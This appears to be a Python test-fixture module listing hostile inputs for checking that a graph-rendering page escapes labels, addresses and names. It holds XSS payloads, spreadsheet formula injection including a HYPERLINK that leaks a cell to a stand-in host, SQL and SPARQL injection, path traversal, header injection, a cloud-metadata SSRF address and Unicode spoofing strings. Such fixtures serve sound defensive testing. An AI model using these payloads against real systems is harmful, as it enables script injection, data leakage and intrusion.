"""What somebody may write into a graph so that a page does what the writer wants."""

from typing import Final

__all__ = ["ADDRESSES", "CANARY", "NAMES", "TEXTS"]

CANARY: Final = "canary"
"""What a script that runs would set in the window, besides opening a dialog."""

_RUN: Final = f"window.{CANARY}=1,alert(1)"
_SCRIPT: Final = f"<script>{_RUN}</script>"
_BROKEN: Final = f"<img src=x onerror={_RUN}>"

TEXTS: Final = (
    _SCRIPT,
    _BROKEN,
    f"</script>{_SCRIPT}",
    f"</title></style></textarea></template>{_BROKEN}",
    f"</option></select></bdi></q></p></table>{_BROKEN}",
    f'"><svg onload={_RUN}>',
    f"'><details open ontoggle={_RUN}>",
    f"`><input autofocus onfocus={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' tabindex='1' autofocus='",
    f"]]>{_SCRIPT}<![CDATA[",
    f"--><!-->{_BROKEN}<!--",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><foreignObject>{_BROKEN}</foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext><mglyph><style><!--</style>{_BROKEN}",
    f"<iframe srcdoc='{_SCRIPT}'></iframe>",
    f"<base href='http://elsewhere.example/'><form action='javascript:{_RUN}'><button>x",
    "<link rel=stylesheet href=http://elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/'>",
    "<style>@import 'http://elsewhere.example/x.css';*{background:url(http://elsewhere.example)}",
    "<object data=http://elsewhere.example/x><embed src=http://elsewhere.example/y>",
    f"<form id=page><input name=cookie></form>{_BROKEN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62; &amp;lt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e \\x3cscript\\x3e",
    f"{{{{7*7}}}} {{% raw %}} ${{{_RUN}}} #{{7*7}} <%= 7*7 %>",
    f"{{{{constructor.constructor('{_RUN}')()}}}} __proto__ constructor",
    f"'-({_RUN})-' \";{_RUN};// */{_RUN}/* \\\";{_RUN}//",
    f"javascript:{_RUN}",
    f"data:text/html,{_SCRIPT}",
    f"JaVa\tScRiPt:{_RUN}",
    f"[x](javascript:{_RUN}) ![x](x onerror) <javascript:{_RUN}>",
    "=cmd|' /C calc'!A0",
    "+1+1 -2+3 @SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example?x="&A1,"click")',
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u202d\u202etwice",
    "\u202e\u202e\u202e\u2067\u2067never closed",
    "\u05e9\u05dc\u05d5\u05dd (1922) \u05e2\u05d5\u05dc\u05dd",
    "\u0645\u0631\u062d\u0628\u0627 123 vs. 456 \u0627\u0644\u0639\u0627\u0644\u0645",
    "\u2028\u2029\u0085 line \u000b separators \u000c and \ufeff marks",
    "\u200b\u200c\u200d\u2060 nothing to see \u00ad\u034f",
    "\u0001\u0007\u001b[31mred\u001b[0m\u007f\u009b",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "\\ud800 \\udfff \ufffe \uffff \U0010ffff \U0001f468\u200d\U0001f469",
    "W" * 3000,
    "\ufdfd" * 40,
    "word " * 800,
    "\u00e4" * 300 + "/" + "\u4e2d" * 600,
    "../../../../etc/passwd%00.html",
    "x\r\nSet-Cookie: a=b\r\n\r\n" + _SCRIPT,
    "' OR '1'='1'; DROP ALL; --",
    '"} UNION {?s ?p ?o} #',
    "> <http://x/> . <http://y/",
    "__proto__",
    "%s%n%x {0} {name!r} %(x)s",
    " ",
    "\t",
    "-",
    "null",
    "NaN",
    "0",
)
"""Labels, descriptions, names of units, places in sources, verbs and all other texts."""

ADDRESSES: Final = (
    f"javascript:{_RUN}",
    f"JAVASCRIPT:{_RUN}//https://example.org/",
    f"javascript://example.org/%0A{_RUN}",
    f"javascript:/*https://example.org/*/{_RUN}",
    f"data:text/html,%3Cscript%3E{_RUN}%3C/script%3E",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/1",
    "view-source:http://127.0.0.1/",
    "about:blank",
    "mailto:a@example.org?subject=%0D%0ABcc:b@example.org",
    "urn:x:'onmouseover='alert(1)",
    "http://user:password@elsewhere.example/",
    "https://elsewhere.example/'onmouseover='alert(1)'",
    "https://elsewhere.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://elsewhere.example/\u202emoc.elpmaxe",
    "https://\u0435xample.org/",
    "https://elsewhere.example/" + "x" * 1500,
    "http://169.254.169.254/latest/meta-data/",
)
"""IRIs of things which are to be looked at elsewhere: of sources, licences, pages, twins."""

NAMES: Final = (
    "'onmouseover='alert(1)",
    "&quot;onfocus=alert(1)&quot;",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "%0D%0ASet-Cookie:a=b",
    "/../../../etc/passwd",
    "?a=b&c='d",
    "%5D%5D%3E*/alert(1)/*",
    "$(alert(1));//",
    "\u202egnp.exe",
    "\u0645\u0631\u062d\u0628\u0627",
    "__proto__",
    "=1+1",
    ":javascript:alert(1)",
    "%00%7F",
    "//elsewhere.example/",
    "x" * 300,
    "/vs/",
    ".json",
)
"""Ends of IRIs by which things, statements, sources, predicates and classes are called."""
